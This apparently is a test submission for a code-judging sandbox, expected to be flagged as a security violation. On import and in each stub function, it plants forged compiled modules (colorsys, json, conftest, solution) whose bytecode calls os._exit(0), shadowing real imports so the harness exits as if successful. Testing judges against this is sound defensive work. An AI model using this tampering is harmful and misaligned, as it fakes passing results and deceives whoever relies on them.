# against: code
# must: wrong_answer|runtime_error|security_violation
# problem: files
# tries: to plant compiled modules and packages
import marshal
import os
import importlib.util

CODE = marshal.dumps(compile("import os; os._exit(0)", "colorsys.py", "exec"))


def plant(path=""):
    for folder in (os.getcwd(), os.path.dirname(path) or "."):
        for name in ("colorsys", "json", "conftest", "solution"):
            tag = importlib.util.cache_from_source(name + ".py")
            for target in (tag, name + ".pyc", f"{name}/__init__.pyc", f"{name}/__init__.py", f"{name}.so"):
                target = os.path.join(folder, target)
                try:
                    os.makedirs(os.path.dirname(target), exist_ok=True)
                    with open(target, "wb") as file:
                        file.write(importlib.util.MAGIC_NUMBER + bytes(12) + CODE)
                except OSError:
                    pass


plant()


def count_words(path):
    plant()


def save(path, value):
    plant(path)


def names(folder):
    plant(os.path.join(folder, 'x'))
